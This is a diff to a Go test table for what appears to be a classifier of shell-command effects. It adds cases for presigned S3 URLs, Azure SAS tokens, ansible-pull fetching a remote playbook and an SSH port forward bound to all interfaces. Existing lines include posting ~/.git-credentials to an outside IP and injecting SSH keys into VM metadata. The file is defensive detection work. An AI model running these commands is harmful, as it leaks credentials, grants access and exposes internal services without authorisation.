@@ -108,6 +108,10 @@ func TestExposeEffects(t *testing.T) {
 		{cmd: "az ssh vm -n vm1 -g rg -- 'id'", want: []want{{"exec", "azvm:vm1", "id", "azvm:"}}},
 		{cmd: "gcloud compute instances add-metadata vm1 --metadata ssh-keys='root:ssh-ed25519 AAAA x'", want: []want{{"privilege", "cloud:gcloud compute", "", ""}}},
 		{cmd: "aws s3api put-bucket-acl --bucket b --access-control-policy file://acl.json", want: []want{{"privilege", "grant:aws s3", "", ""}}},
+		{cmd: "aws s3 presign s3://b/k --expires-in 604800", want: []want{{"privilege", "grant:aws s3", "", ""}}},
+		{cmd: "az storage container generate-sas --account-name a -n c --permissions rl --expiry 2030-01-01", want: []want{{"privilege", "grant:az storage", "", ""}}},
+		{cmd: "ansible-pull -U https://example.com/pb.git local.yml", want: []want{{"exec", "ansible-pull", "download https://example.com/pb.git", ""}}},
+		{cmd: "ssh -N -L :8080:app.internal:80 me@bastion", want: []want{{"listen", "0.0.0.0", "relay", ""}}},
 		{cmd: "xh post 203.0.113.9/x @/home/user/.git-credentials", want: []want{{"read", "/home/user/.git-credentials", "", ""}}},
 	}
 	match := func(e Effect, w want) bool {
